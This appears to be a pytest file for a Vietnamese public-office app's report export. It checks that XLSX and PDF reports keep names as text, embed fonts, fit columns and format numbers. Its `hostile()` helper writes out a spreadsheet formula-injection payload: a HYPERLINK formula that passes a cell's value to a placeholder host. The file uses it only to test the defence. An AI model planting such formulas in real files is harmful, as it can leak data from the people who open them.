"""Report files that say what they are and hold no formula: text stays text, fonts embedded, whole-number ticks."""

from __future__ import annotations

import shutil
import subprocess
from datetime import date

import openpyxl
import pytest

from admin.reports.export import GROUPINGS, ReportRequest, export_reports
from ui.report_files import _column_widths, cell_text

NOV = (date(2026, 11, 1), date(2026, 11, 30))
ALL = [ReportRequest(kind, *NOV, GROUPINGS[kind][0]) for kind in GROUPINGS]
LEADS = ["=", "+", "-", "@"]


def hostile(lead: str) -> str:
    return f'{lead}HYPERLINK("http://x.invalid/?id="&B2,"Xem")'


@pytest.fixture
def office(demo_store, clock):
    """A field, a counter and a citizen whose names a spreadsheet would take for formulas."""
    def make(lead: str):
        admin = demo_store.as_user("quanly")
        admin.setup.save_service(code="TP", name=hostile(lead), prefix="B", name_en="Justice")
        mai = demo_store.login("mai", "mai12345")
        mai.queue.open_counter(3)
        demo_store.queue.issue_ticket("B")
        ticket = mai.queue.call_next(3)
        mai.queue.start_serving(3)
        clock.advance(minutes=6)
        mai.queue.finish(3)
        mai.queue.record_rating(ticket.id, 3)
        mai.dossiers.receive_dossier(procedure="1.000894.000.00.00.H10", applicant_name=hostile(lead))
        return admin
    return make


@pytest.mark.parametrize("lead", LEADS)
def test_every_xlsx_sheet_writes_names_as_text(office, tmp_path, lead):
    manager = office(lead)
    path = export_reports(manager, ALL, tmp_path / "bao-cao.xlsx")
    book = openpyxl.load_workbook(path)
    found = [(sheet.title, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row
             if cell.value == hostile(lead)]
    # the field's name in the queue and dossier reports, the citizen's name in the ledger: all text
    assert {title for title, _ in found} >= {"Hàng chờ", "Hồ sơ", "Sổ theo dõi hồ sơ"}
    assert {kind for _, kind in found} == {"s"}
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.skipif(not shutil.which("pdffonts"), reason="pdffonts (poppler-utils) is not installed")
def test_every_font_a_report_pdf_names_is_embedded(office, tmp_path):
    path = export_reports(office("="), ALL, tmp_path / "bao-cao.pdf")
    listing = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
    fonts = listing.splitlines()[2:]
    assert fonts and all(line.split()[-5] == "yes" for line in fonts), listing  # the "emb" column
    assert "Helvetica" not in listing


def test_columns_are_as_wide_as_their_words_and_fill_the_page():
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.pdfmetrics import stringWidth
    from reportlab.pdfbase.ttfonts import TTFont

    from devices.fonts import font_path

    if "NotoSans" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(TTFont("NotoSans", str(font_path(False))))
    rows = [["Mã", "Tên", "Đã cấp"], ["C", "Lao động - Thương binh và Xã hội", 12], ["", "Toàn cơ quan", 40]]
    widths = _column_widths(rows, 800, stringWidth)
    assert sum(widths) == pytest.approx(800)
    # everything fits on one line here: no column narrower than its longest cell
    assert all(w >= stringWidth(cell_text(r[j]), "NotoSans", 8) for j, w in enumerate(widths) for r in rows)
    # on a narrow page a name wraps at its spaces, never inside a word
    narrow = _column_widths(rows, 200, stringWidth)
    assert narrow[1] >= stringWidth("Thương", "NotoSans", 8) and sum(narrow) == pytest.approx(200)


def test_decimals_are_written_the_vietnamese_way():
    assert (cell_text(2.1), cell_text(0.5), cell_text(12.0), cell_text(7)) == ("2,1", "0,5", "12", "7")


def test_chart_ticks_are_whole_numbers_for_counts(office, tmp_path):
    import pypdfium2 as pdfium

    manager = office("=")  # one ticket: a value axis from 0 to 1
    path = export_reports(manager, [ReportRequest("queue", *NOV, "field")], tmp_path / "hang-cho.pdf")
    words = " ".join(p.get_textpage().get_text_range() for p in pdfium.PdfDocument(path)).split()
    assert not [w for w in words if w in ("0.2", "0.4", "0.5", "0,2", "0,4", "0,5", "1.0", "0.0")]
